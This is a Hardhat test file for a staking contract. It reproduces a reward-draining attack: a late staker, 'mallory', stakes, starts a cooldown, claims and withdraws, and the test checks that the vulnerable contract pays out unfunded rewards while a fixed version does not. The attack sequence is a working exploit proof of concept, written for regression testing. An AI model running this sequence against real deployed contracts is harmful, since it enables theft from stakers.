import { expect } from "chai";
import { network } from "hardhat";
import { parseEther } from "viem";

async function attack(name: "SafetyStaking" | "SafetyStakingFixed") {
  const { viem } = await network.create();
  const clock = await viem.getTestClient();
  const [treasury, alice, bob, mallory] = await viem.getWalletClients();
  const weth = await viem.deployContract("SafetyStakingToken", ["Wrapped Ether", "WETH"]);
  const arc = await viem.deployContract("SafetyStakingToken", ["Arc", "ARC"]);
  const staking = await viem.deployContract(name, [weth.address, arc.address]);
  await arc.write.mint([treasury.account.address, parseEther("250000")]);
  await arc.write.approve([staking.address, parseEther("250000")]);
  for (const [{ account }, amount] of [
    [alice, parseEther("900")],
    [bob, parseEther("420")],
    [mallory, parseEther("400")],
  ] as const) {
    await weth.write.mint([account.address, amount]);
    await weth.write.approve([staking.address, amount], { account });
    if (account !== mallory.account) await staking.write.stake([amount], { account });
  }
  await staking.write.startPeriod([parseEther("250000")]);
  await clock.increaseTime({ seconds: 8 * 86_400 });
  await clock.mine({ blocks: 1 });
  expect(await staking.read.invariant_rewardsAreFunded()).to.equal(true);

  const { account } = mallory;
  await staking.write.stake([parseEther("400")], { account });
  await staking.write.startCooldown([parseEther("400")], { account });
  await clock.increaseTime({ seconds: 10 * 86_400 });
  await staking.write.claim({ account });
  await staking.write.withdraw({ account });
  return {
    funded: await staking.read.invariant_rewardsAreFunded(),
    staked: await weth.read.balanceOf([account.address]),
    rewards: await arc.read.balanceOf([account.address]),
  };
}

describe("SafetyStaking", () => {
  it("breaks", async () => {
    const { funded, staked, rewards } = await attack("SafetyStaking");
    expect(funded).to.equal(false);
    expect(staked).to.equal(parseEther("400"));
    expect(Number(rewards)).to.be.greaterThan(Number(parseEther("20000")));
  });

  it("holds once fixed", async () => {
    const { funded, staked, rewards } = await attack("SafetyStakingFixed");
    expect(funded).to.equal(true);
    expect(staked).to.equal(parseEther("400"));
    expect(Number(rewards)).to.be.lessThan(Number(parseEther("1")));
  });
});
